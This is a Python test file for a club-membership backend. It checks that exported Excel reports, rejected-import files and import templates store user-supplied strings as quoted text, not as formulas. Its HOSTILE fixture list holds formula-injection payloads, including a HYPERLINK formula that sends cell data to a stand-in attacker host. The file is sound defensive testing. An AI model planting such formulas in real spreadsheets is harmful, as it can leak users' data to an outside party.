"""Issue 17 item 4: every text cell of every workbook we hand out is text, never a
formula, and keeps the original text (read back with openpyxl)."""

import io

import openpyxl
import pytest

from backend import spreadsheets
from backend.models import MemberField
from backend.services import member_import as mi
from backend.services.reports import REPORTS
from tests import factories
from tests.unit.backend.services.reports.conftest import paper  # noqa: F401  (fixture)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+98 912 000", "-2+3",
           "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"]


def string_cells(book):
    """Every non-empty cell of every sheet: (value, data_type, quote prefix)."""
    return [(cell.value, cell.data_type, cell.quotePrefix)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_all_text(book, expected: list[str]):
    cells = string_cells(book)
    assert not [cell for cell in cells if cell[1] == "f"], "a formula cell"
    for text in expected:
        found = [cell for cell in cells if cell[0] == text]
        assert found, f"{text!r} is not in the workbook as it was"
        assert all(data_type == "s" and quote for _, data_type, quote in found), found


@pytest.mark.parametrize("write_only", [True, False])
def test_the_helper_writes_text_that_reads_back_unchanged(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    sheet.append(spreadsheets.row(sheet, [*HOSTILE, "plain", 12, None]))
    buffer = io.BytesIO()
    book.save(buffer)
    back = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["s"]
    cells = [(cell.value, cell.data_type, cell.quotePrefix) for cell in back[1]]
    assert cells[:len(HOSTILE)] == [(text, "s", True) for text in HOSTILE]
    assert cells[len(HOSTILE)] == ("plain", "s", False)
    assert cells[len(HOSTILE) + 1][:2] == (12, "n")


def test_every_report_workbook_writes_member_and_club_text_as_text(client, auth, paper):  # noqa: F811
    """The issue's case (a member's first name `=HYPERLINK(…)` in /reports/joined/excel)
    and every other report: names of members, tiers, branches in every sheet."""
    names = {"m7": HOSTILE[0], "m1": HOSTILE[3], "m5": HOSTILE[2]}
    for key, text in names.items():
        paper.members[key].first_name = text
        paper.members[key].last_name = "Z"
    paper.tier_a.name = "=1+1"
    paper.branch_x.name = "+branch"
    paper.db.commit()
    factories.staff_user(paper.db, username="admin", role="admin")
    assert auth.login().status_code == 302
    seen = []
    for name in REPORTS:
        response = client.get(f"/reports/{name}/excel",
                              query_string={"from": "1405/01/01", "to": "1405/08/30"})
        assert response.status_code == 200, name
        book = openpyxl.load_workbook(io.BytesIO(response.data))
        assert_all_text(book, [])
        seen += [value for value, data_type, quote in string_cells(book)
                 if isinstance(value, str) and value.startswith(("=", "+", "-", "@"))
                 and data_type == "s" and quote]
    joined = openpyxl.load_workbook(io.BytesIO(client.get(
        "/reports/joined/excel", query_string={"from": "1405/08/01", "to": "1405/08/30"}
    ).data))
    assert_all_text(joined, [f"{HOSTILE[0]} Z"])  # the report's name is first + last
    for text in [f"{text} Z" for text in names.values()] + ["=1+1", "+branch"]:
        assert text in seen, text


def test_the_refused_rows_file_writes_the_uploaded_text_as_text():
    columns = [["first_name", "نام (first_name)"], ["mobile", "موبایل (mobile)"]]
    rows = [{"row": 2, "values": [HOSTILE[0], "+989120000000"],
             "errors": [{"column": "mobile", "message": "bad", "params": {}}]},
            {"row": 3, "values": ["@x", "-1"],
             "errors": [{"column": "first_name", "message": "=bad", "params": {}}]}]
    book = openpyxl.load_workbook(io.BytesIO(mi.rejected_workbook(columns, rows)))
    assert_all_text(book, [HOSTILE[0], "+989120000000", "@x", "-1"])


def test_the_import_template_writes_custom_field_labels_as_text(db):
    factories.club(db)
    db.add(MemberField(key="source", label="Source", label_fa="=منبع",
                       kind="choice", choices=["-a", "+b"]))
    db.flush()
    book = openpyxl.load_workbook(io.BytesIO(mi.template_workbook(db)))
    assert_all_text(book, ["=منبع (custom_source)", "=منبع", "-a، +b"])
